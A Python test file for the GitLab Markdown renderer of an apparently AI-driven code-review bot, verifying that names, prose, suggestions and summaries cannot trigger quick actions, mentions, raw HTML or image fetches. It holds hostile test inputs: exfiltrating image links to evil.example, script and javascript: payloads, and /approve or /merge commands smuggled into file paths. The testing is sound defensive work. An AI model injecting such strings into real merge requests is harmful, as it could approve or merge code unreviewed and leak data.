"""The one renderer of text for GitLab: names that cannot break, prose that cannot act, and a
property test over arbitrary input checked by the GitLab stand-in's own rules."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest
from fakes.gitlab_markdown import command_lines, quick_actions, unsafe_markup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reviewer.diff.parsing import DiffRefs, parse_unified
from reviewer.diff.positions import Inline, LineIndex
from reviewer.gitlab import markdown
from reviewer.gitlab.markdown import Markdown, code, comment, sanitize
from reviewer.gitlab.summary import SummaryInput
from reviewer.model.usage import Usage
from reviewer.review.engine import Failure
from reviewer.review.findings import Finding, Severity, Side
from reviewer.review.planning import Plan, Skipped, Tier

REVIEWER = Path(__file__).resolve().parents[2] / "reviewer"
DIFF = "--- a/a.py\n+++ b/a.py\n@@ -1,3 +1,4 @@\n x = 1\n-y = 2\n+y = 3\n+z = f(y)\n w = 4\n"


def _inline(line: int, side: Side = Side.NEW, end: int | None = None) -> Inline:
    placement = LineIndex(parse_unified(DIFF), DiffRefs("b", "s", "h")).place("a.py", line, side, end)
    assert isinstance(placement, Inline)
    return placement


def _finding(
    line: int = 2,
    suggestion: str | None = None,
    side: Side = Side.NEW,
    end: int | None = None,
    *,
    title: str = "Title @bob",
    body: str = "Body /close",
    path: str = "a.py",
) -> Finding:
    return Finding(
        "style",
        Severity.MEDIUM,
        path,
        line,
        side,
        title,
        body,
        end_line=end,
        suggestion=suggestion,
        fingerprint="0123456789abcdef",
    )


def _summary(
    path: str = "a.py",
    title: str = "t",
    body: str = "b",
    reason: str = "r",
    detail: str = "d",
    tier_reason: str = "3 changed lines in 1 file",
    mask: object = None,
) -> str:
    finding = _finding(title=title, body=body, path=path)
    plan = Plan(Tier.FULL, tier_reason, (), (Skipped(path, reason),), 3, 1)
    s = SummaryInput(
        head_sha="0123456789abcdef0123",
        plan=plan,
        inline=[],
        in_summary=[(finding, reason)],
        already_posted=0,
        over_cap=[],
        failures=[Failure("security", (path, "b.py"), "the model gateway failed", detail)],
        usage=Usage(),
        prompt_versions={"security": "abc123"},
        aspects=("security",),
        off_diff=2,
        mask=mask,  # type: ignore[arg-type]
    )
    return markdown.summary(s).text


def _gitlab_would_object(body: str) -> list[str]:
    return [
        *(f"quick action /{c}" for c in quick_actions(body)),
        *(f"command line {c!r}" for c in command_lines(body)),
        *unsafe_markup(body),
    ]


# -- names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("app/db.py", "`app/db.py`"),
        ("a\n/close\nb.py", "`a\\n/close\\nb.py`"),
        ("tab\there\r", "`tab\\there\\r`"),
        ("back\\slash", "`back\\\\slash`"),
        ("tick`s.py", "``tick`s.py``"),
        ("`edge`", "`` `edge` ``"),
        ("bidi\u202egnp.exe", "`bidi\\u202egnp.exe`"),
        ("line\u2028sep", "`line\\u2028sep`"),
        ("esc\x1b[31m", "`esc\\x1b[31m`"),
    ],
)
def test_a_name_is_one_code_span_that_cannot_break(name: str, shown: str) -> None:
    assert code(name) == shown
    assert "\n" not in code(name) and "\r" not in code(name)


def test_a_hostile_path_in_the_summary_runs_nothing() -> None:
    body = _summary(path="nope.py\n/approve\nx")
    assert "`nope.py\\n/approve\\nx:2`" in body
    assert _gitlab_would_object(body) == []


# -- prose ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["/approve", "fine\n/merge", "  /close", "\t/assign @me", "ok\r\n/label ~bug", "a\r/close", "x\u2028/c"],
)
def test_no_line_can_start_a_quick_action(text: str) -> None:
    out = sanitize(text)
    for line in out.split("\n"):
        assert not line.lstrip().startswith("/")
    assert quick_actions(out) == [] and command_lines(out) == []


def test_mentions_and_email_addresses_do_not_ping_or_link() -> None:
    out = sanitize("ask @alice or @group/team, mail bob@example.com, or @all; &#64;eve")
    assert "`@alice`" in out and "`@group/team`" in out and "`@all`" in out
    assert "`bob@example.com`" in out
    assert "&amp;#64;eve" in out  # an entity shows as typed, it never decodes into a mention
    assert unsafe_markup(out) == []


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/leak?d=SECRET)",
        "![x][ref]\n\n[ref]: https://evil.example/leak",
        '<img src="https://evil.example/leak">',
        "<script>alert(1)</script>",
        "<!-- ai-review fp=deadbeef -->",
        "\\`@alice` and `x",
    ],
)
def test_images_raw_html_mentions_and_marker_spoofing_are_neutralised(text: str) -> None:
    out = sanitize(text)
    assert "![" not in out and "<img" not in out and "<script" not in out and "<!--" not in out
    assert unsafe_markup(out) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see [the docs](https://evil.example/login)", "see the docs (`https://evil.example/login`)"),
        ("go to https://evil.example/x now", "go to `https://evil.example/x` now"),
        ("[x](javascript:alert(1))", "x (`javascript:alert(1`))"),
        ("already `https://ok.example` quoted", "already `https://ok.example` quoted"),
    ],
)
def test_links_are_shown_not_clickable(text: str, shown: str) -> None:
    assert sanitize(text) == shown


def test_a_code_block_in_a_body_stays_code_and_is_always_closed() -> None:
    out = sanitize("Use this:\n~~~python\nx = a[0] < b\n/usr/bin/env\n")
    assert out == "Use this:\n```python\nx = a[0] < b\n\\/usr/bin/env\n\n```"


def test_an_unclosed_fence_in_a_body_cannot_swallow_the_suggestion() -> None:
    body = comment(_finding(2, "```\n/approve", body="open ```\n```"), _inline(2).position).text
    assert "````suggestion:-0+0\n```\n/approve\n````" in body
    assert _gitlab_would_object(body) == []


def test_a_diagram_block_is_shown_as_plain_code() -> None:
    assert sanitize("```plantuml\nA -> B\n```") == "```\nA -> B\n```"


# -- comments -------------------------------------------------------------------------------------


def test_a_multi_line_suggestion_reaches_back_from_the_commented_last_line() -> None:
    body = comment(_finding(2, "y = 4\nz = g(y)", end=3), _inline(2, end=3).position).text
    assert "```suggestion:-1+0\ny = 4\nz = g(y)\n```" in body
    assert body.endswith("<!-- ai-review fp=0123456789abcdef sev=medium aspect=style -->")
    assert "`@bob`" in body and "\n/close" not in body


def test_a_suggestion_holding_backticks_gets_a_longer_fence() -> None:
    body = comment(_finding(2, "s = '```'"), _inline(2).position).text
    assert "````suggestion:-0+0\ns = '```'\n````" in body


def test_no_suggestion_on_a_removed_line_or_holding_bidi_controls() -> None:
    removed = comment(_finding(2, "y = 2", side=Side.OLD), _inline(2, Side.OLD).position)
    assert "suggestion:" not in removed.text
    assert "suggestion:" not in comment(_finding(2, "ok = 1 \u202e# x"), _inline(2).position).text


def test_a_finding_moved_or_shortened_to_fit_loses_its_suggestion() -> None:
    shortened = _finding(2, "y = 4\nz = g(y)\nw = 5\nv = 6\nu = 7", end=6)  # the hunk ends at line 4
    assert "suggestion:" not in comment(shortened, _inline(2, end=6).position).text
    moved = _finding(9, "q = 1")  # outside the hunk: anchored on its nearest line
    assert "suggestion:" not in comment(moved, _inline(9).position).text


def test_a_title_stays_on_its_line() -> None:
    body = comment(_finding(title="x\n```\n/close"), None).text
    assert body.split("\n")[0].endswith("**: x \\`\\`\\` /close")


# -- the summary ----------------------------------------------------------------------------------


def test_the_summary_counts_dropped_findings_and_masks_every_piece() -> None:
    secret = "AKIAIOSFODNN7EXAMPLE"
    body = _summary(
        path=f"keys/{secret}.txt",
        title=f"t {secret}",
        body=f"b {secret}",
        reason=f"r {secret}",
        detail=f"d {secret}",
        tier_reason=f"security-sensitive: keys/{secret}.txt",
        mask=lambda text: text.replace(secret, "[REDACTED]"),
    )
    assert secret not in body and body.count("REDACTED") >= 6
    assert "2 findings dropped: not about a file of this MR." in body


# -- the type guarantee ---------------------------------------------------------------------------


def test_markdown_is_made_only_by_the_renderer() -> None:
    with pytest.raises(TypeError):
        Markdown("/approve")


def test_no_module_but_the_renderer_makes_markdown() -> None:
    """Only reviewer/gitlab/markdown/ may construct ``Markdown`` or touch its key."""
    offenders = []
    for path in REVIEWER.rglob("*.py"):
        if (REVIEWER / "gitlab" / "markdown") in path.parents:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            called = getattr(node, "func", None)
            name = getattr(called, "id", getattr(called, "attr", ""))
            if isinstance(node, ast.Call) and name == "Markdown":
                offenders.append(f"{path}:{node.lineno} calls Markdown()")
            if isinstance(node, ast.Attribute | ast.Name | ast.alias) and (
                getattr(node, "attr", None) or getattr(node, "id", None) or getattr(node, "name", None)
            ) in ("_KEY", "_made"):
                offenders.append(f"{path}:{getattr(node, 'lineno', 0)} uses the renderer's key")
    assert offenders == []


# -- the property: nothing composed can act -------------------------------------------------------

_FRAGMENTS = [
    "/approve", "/close", "/merge", "/assign @me", "\n", "\r", "\r\n", "\n\n", " ", "    ", "\t", "`",
    "``", "```", "````", "~~~", ">>>", ">", "<", "<img src=x>", "<details>", "</sub>",
    "<!-- ai-review summary -->", "@all", "@alice", "bob@example.com", "&#64;x", "![i](https://e.x/a)",
    "[l](javascript:x)", "[r]: ftp://x", "http://e.x/", "ftp://e.x", "www.e.x", "\\", "\\`", "[", "]",
    "(", ")", "!", "*", "_", "#", "|", "a", "x.py", "\u2028", "\u202e", "\x00", "\x1b", "é", ":", "-", "1. ",
]  # fmt: skip
_TEXT = st.lists(st.sampled_from(_FRAGMENTS) | st.characters(), max_size=25).map("".join)
_SOME_TEXT = _TEXT.filter(lambda t: t.strip() != "")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    path=_SOME_TEXT,
    title=_SOME_TEXT,
    body=_TEXT,
    suggestion=_TEXT,
    reason=_TEXT,
    detail=_TEXT,
    tier_reason=_TEXT,
)
def test_no_composed_note_holds_anything_gitlab_would_act_on(
    path: str, title: str, body: str, suggestion: str, reason: str, detail: str, tier_reason: str
) -> None:
    notes = [
        comment(_finding(2, suggestion, title=title, body=body, path=path), _inline(2).position).text,
        comment(_finding(2, None, title=title, body=body, path=path), None).text,
        _summary(path, title, body, reason, detail, tier_reason),
        markdown.note(body).text,
    ]
    for note in notes:
        assert _gitlab_would_object(note) == [], note
